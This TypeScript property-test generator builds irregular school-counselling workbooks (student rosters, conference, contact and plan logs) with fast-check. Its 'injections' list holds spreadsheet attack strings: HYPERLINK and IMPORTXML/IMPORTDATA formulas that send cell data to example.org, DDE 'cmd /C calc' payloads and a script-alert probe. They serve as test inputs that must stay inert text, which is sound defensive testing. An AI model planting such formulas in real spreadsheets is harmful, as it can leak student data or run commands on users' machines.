/**
 * Workbooks as no school would keep them: real headings among injected, repeated and missing ones, any value in any cell.
 */
import fc from 'fast-check'
import { type CellValue, emptySheet, emptyWorkbook, type WorkbookModel } from '../../local/workspace/model.ts'
import { headings } from '../../src/records/headings.ts'

/** Longest text that a cell may hold in Google Sheets. */
const longestCell = 50_000

const mostColumns = 300

/** What spreadsheets have been attacked with: each must stay the text that it is. */
export const injections = [
  '=HYPERLINK("https://example.org/?leak="&A1,"Click here")',
  '=IMPORTXML(CONCAT("https://example.org/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=1+1',
  ' =1+1',
  '\t=1+1',
  "'=1+1",
  "''=1+1",
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=A1',
  '=#REF!',
  '","x")&IMPORTDATA("https://example.org',
  '#REF!',
  '<script>alert(1)</script>',
  '{{student}}',
  '$&',
  '‮gnitirw',
  '\u0000',
  '00123',
  '3-4',
  'TRUE',
]

/** Names that every object has, or that a careless dictionary takes for its own. */
export const objectNames = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then']

const wideHeadings = [
  'Stu Name',
  'Stu #',
  'Gr',
  'Fall conf',
  'Spring conf',
  'Group PCCR',
  'PCCR date',
  'Who came (P/S/B)',
  'Plan created',
  'Updated',
  'Parent signed',
  '10/12/2026',
  'SSN',
  'Status',
  'Open items',
  'Next due',
]

const longHeading = `Did the parent or guardian attend, and if so,\nwho else was there? ${'(Please tick all that apply.) '.repeat(9)}`

const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...injections) },
  { weight: 2, arbitrary: fc.constantFrom(...objectNames) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
)

const anyDay: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 0, max: 640 }).map((days) => isoDay(days)) },
  { weight: 2, arbitrary: fc.integer({ min: 45_800, max: 46_700 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom('10/8/2026', '10/8', '8-Oct-26', '15/06/2026', '1997-13-03', 'Last day +1', 'soon', ''),
  },
)

/** So many days after 1 July 2025. */
function isoDay(days: number): string {
  return new Date(Date.UTC(2025, 6, 1 + days)).toISOString().slice(0, 10)
}

const nothing = ['', 'NULL', 'null', ' ', '././.']

const anyCell: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom<CellValue>(...nothing, 'Y', 'N', 'X', 'held', 'group') },
  { weight: 3, arbitrary: anyDay },
  { weight: 4, arbitrary: anyText },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean()) },
)

const anyId: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 12, arbitrary: fc.integer({ min: 1, max: 5 }).map((number) => String(number).padStart(6, '0')) },
  { weight: 2, arbitrary: fc.integer({ min: 1, max: 5 }) },
  { weight: 1, arbitrary: fc.constantFrom(...objectNames) },
  { weight: 1, arbitrary: anyText },
)

/** What usually stands under a heading, by what the heading sounds like. */
const usual: readonly (readonly [heading: RegExp, cells: fc.Arbitrary<CellValue>])[] = [
  [/student_id|Stu #/, anyId],
  [/date|_on$|conf$|created|updated|signed$|_day$|PCCR$/i, anyDay],
  [
    /grade|^gr$/i,
    fc.oneof(
      { weight: 4, arbitrary: fc.integer({ min: 0, max: 12 }) },
      fc.constantFrom<CellValue>('K', '7th', 'PS', 'UG', -1, 13),
    ),
  ],
  [/plan_kind/, fc.constantFrom('ILP', 'PCCR', 'SEP', '')],
  [/kind|about/, fc.constantFrom('individual', 'group', 'small_group', 'iep', '')],
  [/^status$/, fc.constantFrom('scheduled', 'held', 'held', 'held', 'no-show', 'declined', 'cancelled-school', '')],
  [/attended|ck_|sec_|file_|iep|early|reviewed/, fc.constantFrom<CellValue>('Y', 'N', '', true, false, 'x')],
  [/who came/i, fc.constantFrom('P', 'S', 'B', 'M', 'F', 'nobody', '')],
  [/count|minutes/, fc.integer({ min: 0, max: 30 })],
  [/school_year/, fc.constantFrom('2026-27', '2025-26', '2025-2026', 2027)],
  [/source/, fc.constantFrom('own', 'prior', '')],
]

/** A column that mostly knows its kind of value, so that its rows say something. */
function columnOf(heading: string): { readonly heading: string; readonly cells: fc.Arbitrary<CellValue> } {
  const known = usual.find(([pattern]) => pattern.test(heading))?.[1]
  return {
    heading,
    cells:
      known === undefined ? anyCell : fc.oneof({ weight: 14, arbitrary: known }, { weight: 1, arbitrary: anyCell }),
  }
}

const strayHeading: fc.Arbitrary<string> = fc.oneof(
  anyText,
  fc.constantFrom('', longHeading, 'Notes', '2026-10-12', '9/14', 'date', 'grade', 'student_id'),
)

interface GeneratedTab {
  readonly name: string
  readonly cells: readonly (readonly CellValue[])[]
}

/** A tab under some of the given headings, some others, in any order; perhaps below a title, perhaps without rows. */
function tabOf(name: fc.Arbitrary<string>, needed: readonly string[], others: readonly string[], rows: number) {
  const columns = fc
    .tuple(
      fc.subarray([...others], { maxLength: Math.min(12, others.length) }),
      fc.array(strayHeading, { maxLength: 3 }),
      fc.double({ min: 0, max: 1 }),
    )
    .map(([some, stray, turn]) => {
      const all = [...needed, ...some, ...stray]
      const at = Math.floor(turn * all.length)
      return [...all.slice(at), ...all.slice(0, at)].map(columnOf)
    })
  return columns.chain((list) =>
    fc
      .record({
        name,
        title: fc.option(anyText, { freq: 5 }),
        rows: fc.array(fc.tuple(...list.map(({ cells }) => cells)), { maxLength: rows, size: 'max' }),
      })
      .map(
        ({ name: chosen, title, rows: made }): GeneratedTab => ({
          name: chosen,
          cells: [...(title === null ? [] : [[title], []]), list.map(({ heading }) => heading), ...made],
        }),
      ),
  )
}

const tabName = (usual: string) =>
  fc.oneof({ weight: 4, arbitrary: fc.constant(usual) }, fc.constantFrom("Fall '26", '📋 List', 'Sheet1', 'a!b', '"Q"'))

/** A heading stands twice only where a stray one repeats it. */
const fieldsOf = (kind: keyof typeof headings, ...but: readonly string[]) =>
  Object.keys(headings[kind]).filter((field) => !but.includes(field))

const roster = tabOf(tabName('Students'), ['student_id', 'grade'], fieldsOf('students', 'student_id', 'grade'), 8)
const wideRoster = tabOf(tabName('Roster'), ['Stu #', 'Gr'], wideHeadings, 10)
const logs = fc.array(
  fc.oneof(
    tabOf(
      tabName('Conferences'),
      ['student_id', 'date', 'kind'],
      fieldsOf('conferences', 'student_id', 'date', 'kind'),
      8,
    ),
    tabOf(tabName('Contacts'), ['student_id', 'date'], fieldsOf('contacts', 'student_id', 'date'), 5),
    tabOf(tabName('Plans'), ['student_id', 'created_on'], fieldsOf('plans', 'student_id', 'created_on'), 5),
    tabOf(
      tabName('PlanUpdates'),
      ['student_id', 'updated_on'],
      fieldsOf('plan-updates', 'student_id', 'updated_on'),
      4,
    ),
    tabOf(
      tabName('GradeHistory'),
      ['student_id', 'school_year', 'grade'],
      fieldsOf('grade-history', 'student_id', 'school_year', 'grade'),
      5,
    ),
    tabOf(tabName('Calendar'), ['school_year', 'first_day', 'last_day'], [], 2),
    tabOf(tabName('Settings'), ['Setting', 'Your choice'], ['Used at the last check'], 3),
    tabOf(tabName('Anything'), [], fieldsOf('courses'), 3),
  ),
  { maxLength: 4 },
)

/** What makes a whole workbook odd, once in a while. */
type Oddity = 'none' | 'long cell' | 'many columns' | 'empty tab' | 'no rows'
const oddity: fc.Arbitrary<Oddity> = fc.oneof(
  { weight: 30, arbitrary: fc.constant<Oddity>('none') },
  { weight: 1, arbitrary: fc.constantFrom<Oddity>('long cell', 'many columns', 'empty tab', 'no rows') },
)

function workbookOf(tabs: readonly GeneratedTab[], odd: Oddity): WorkbookModel {
  const workbook = emptyWorkbook('Generated school')
  const taken = new Set<string>()
  const add = (name: string, cells: readonly (readonly CellValue[])[]) => {
    let free = name
    while (taken.has(free.toLowerCase())) free += ' 2'
    taken.add(free.toLowerCase())
    const width = Math.max(1, ...cells.map((row) => row.length))
    const sheet = emptySheet(workbook.sheets.length, free, cells.length + 3, width + 2)
    sheet.values = cells.map((row) => [...row])
    workbook.sheets.push(sheet)
  }
  if (odd === 'empty tab') add('Empty', [])
  for (const { name, cells } of tabs) add(name, odd === 'no rows' ? cells.slice(0, 1) : cells)
  const first = workbook.sheets[workbook.sheets.length > 1 ? 1 : 0]
  if (first !== undefined && odd === 'long cell') {
    const row = first.values[first.values.length - 1] ?? []
    row[row.length - 1] = `=${'x'.repeat(longestCell - 1)}`
  }
  if (first !== undefined && odd === 'many columns') {
    first.columnCount = mostColumns
    first.values[0] = Array.from(
      { length: mostColumns },
      (_, column) => first.values[0]?.[column] ?? `Column ${column}`,
    )
  }
  return workbook
}

/** A roster with logs beside it. */
export const workbookWithLogs = fc
  .tuple(roster, logs, oddity)
  .map(([students, others, odd]) => workbookOf([students, ...others], odd))

/** Everything on the roster itself, as in a home-made tracker. */
export const wideWorkbook = fc.tuple(wideRoster, oddity).map(([students, odd]) => workbookOf([students], odd))
